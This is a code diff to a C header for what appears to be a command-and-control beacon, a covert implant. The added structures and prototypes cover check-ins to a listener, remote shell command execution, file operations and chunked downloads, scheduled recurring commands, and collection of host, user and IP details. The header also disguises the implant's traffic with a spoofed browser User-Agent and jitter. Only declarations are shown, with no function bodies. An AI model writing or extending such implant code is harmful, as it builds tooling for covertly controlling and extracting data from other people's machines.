@@ -24,28 +24,58 @@
     #include <netinet/in.h>
     #include <arpa/inet.h>
     #include <netdb.h>
+    #include <strings.h>
     #include <sys/utsname.h>
 #endif
 
+#include "arena.h"
+
 // Configuration constants
 #define MAX_URL_LEN 512
 #define MAX_BUFFER_SIZE 8192
 #define MAX_COMMAND_SIZE 4096
 #define MAX_OUTPUT_SIZE 16384
 #define BEACON_ID_LEN 37  // UUID format
+#define COMMAND_ID_MAX 64  // longest command id kept, NUL included
+#define SESSION_TOKEN_MAX 64   // longest check-in token kept, NUL included; longer ones are ignored
+#define MAX_COMMAND_BATCH 64
+#define LONG_POLL_TIMEOUT_MARGIN 30   // seconds a held check-in may overrun before the read gives up
 #define USER_AGENT "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"
 
 // Beacon configuration structure
 typedef struct {
     char server_url[MAX_URL_LEN];
     char beacon_id[BEACON_ID_LEN];
+    char session_token[SESSION_TOKEN_MAX];   // issued by the listener; sent instead of beacon_id
     char user_agent[256];
     int sleep_interval;
     int jitter_percent;
     int verify_ssl;
+    int keep_alive;
+    int dns_ttl;
+    int worker_threads;
+    int command_timeout;
+    int io_timeout;           // seconds a connect, send or read may stall
+    int stream_output;
+    int compress;
+    int binary_protocol;
+    int long_poll;
+    int adaptive_poll;
+    int active_interval_ms;
+    int telemetry;            // ship per-phase timing summaries with check-ins
+    size_t result_budget;
     char proxy_url[MAX_URL_LEN];
 } beacon_config_t;
 
+// System information fields, as bits of system_info_t.unchanged
+#define SYSINFO_HOSTNAME 0x01
+#define SYSINFO_USERNAME 0x02
+#define SYSINFO_OS_NAME 0x04
+#define SYSINFO_OS_VERSION 0x08
+#define SYSINFO_ARCHITECTURE 0x10
+#define SYSINFO_PID 0x20
+#define SYSINFO_CWD 0x40
+
 // System information structure
 typedef struct {
     char hostname[256];
@@ -56,22 +86,52 @@ typedef struct {
     int pid;
     char cwd[512];
     char ip_addresses[1024];
+    unsigned int unchanged;   // SYSINFO_* fields the listener already has, left out of the check-in
 } system_info_t;
 
-// Command structure
+// Command record: header followed by id, name and args, each NUL-terminated
 typedef struct {
-    char id[64];
-    char command[256];
-    char args[MAX_COMMAND_SIZE];
-} command_t;
-
-// Command result structure
+    unsigned int id_length;
+    unsigned int name_length;
+    unsigned int args_length;
+    unsigned int opcode;      // command_opcode_t from the reply, or 0 to look the name up
+    unsigned int scheduled;   // a run of a recurring command, started by the beacon itself
+    char data[];
+} command_record_t;
+
+#define COMMAND_ID(c) ((c)->data)
+#define COMMAND_NAME(c) ((c)->data + (c)->id_length + 1)
+#define COMMAND_ARGS(c) (COMMAND_NAME(c) + (c)->name_length + 1)
+
+// Result record: header followed by the command id and output, each NUL-terminated
 typedef struct {
-    char command_id[64];
+    unsigned int id_length;
+    unsigned int output_length;
+    unsigned int capacity;    // payload bytes reserved after the header
     int success;
-    char output[MAX_OUTPUT_SIZE];
-    char timestamp[32];
-} command_result_t;
+    int chunked;              // output is one piece of a spooled stream
+    int sequence;             // chunk number within the stream
+    int final;                // last chunk of the stream
+    int streamed;             // output went to a spool; this result carries nothing to send
+    int transfer;             // output is raw file data, one range of a download
+    long long offset;         // file position of the first output byte when transfer is set
+    long upload_seq;          // position in the upload stream, set by the result queue
+    int scheduled;            // from a recurring run; waits for the regular check-in
+    char timestamp[24];
+    char data[];
+} result_record_t;
+
+#define RESULT_ID(r) ((r)->data)
+#define RESULT_OUTPUT(r) ((r)->data + (r)->id_length + 1)
+
+// Queue state reported so the server can hold back tasking instead of it being dropped
+typedef struct {
+    int queued_results;
+    size_t queued_bytes;
+    size_t budget;
+    int accept;           // commands the beacon can take on this check-in
+    int long_poll;        // seconds the listener may hold an empty reply, 0 to answer at once
+} backpressure_t;
 
 // Function prototypes
 
@@ -82,25 +142,30 @@ void beacon_cleanup(void);
 int beacon_main_loop(beacon_config_t* config);
 
 // Communication functions
-int http_checkin(beacon_config_t* config, system_info_t* sysinfo, 
-                command_result_t* results, int result_count,
-                command_t** commands, int* command_count);
-int https_checkin(beacon_config_t* config, system_info_t* sysinfo,
-                 command_result_t* results, int result_count,
-                 command_t** commands, int* command_count);
+// The listener acknowledges uploads by the next upload_seq it expects
+#define RESULT_ACK_NONE (-1L)
+
+int http_checkin(beacon_config_t* config, arena_t* arena, system_info_t* sysinfo,
+                const result_record_t** results, int result_count, const backpressure_t* backpressure,
+                command_record_t** commands, int max_commands, int* command_count);
+int https_checkin(beacon_config_t* config, arena_t* arena, system_info_t* sysinfo,
+                 const result_record_t** results, int result_count, const backpressure_t* backpressure,
+                 command_record_t** commands, int max_commands, int* command_count);
 
 // System information functions
 int collect_system_info(system_info_t* sysinfo);
+unsigned long system_info_hash(const system_info_t* sysinfo);
+unsigned int system_info_unchanged(const system_info_t* reported, const system_info_t* current);
 void get_current_timestamp(char* buffer, size_t buffer_size);
 void generate_uuid(char* buffer);
 
 // Command execution functions
-int execute_command(command_t* cmd, command_result_t* result);
-int execute_shell_command(const char* command, char* output, size_t output_size);
-int execute_file_operation(const char* operation, const char* path, char* output, size_t output_size);
+result_record_t* execute_command(const command_record_t* cmd, arena_t* arena);
+int execute_shell_command(const char* command, arena_t* arena, result_record_t** result);
+int execute_file_operation(const char* operation, const char* args, size_t args_length,
+                           arena_t* arena, result_record_t** result);
 
 // Utility functions
-void sleep_with_jitter(int base_seconds, int jitter_percent);
 int parse_url(const char* url, char* hostname, int* port, char* path, int* use_ssl);
 char* url_encode(const char* str);
 void string_replace(char* str, const char* find, const char* replace);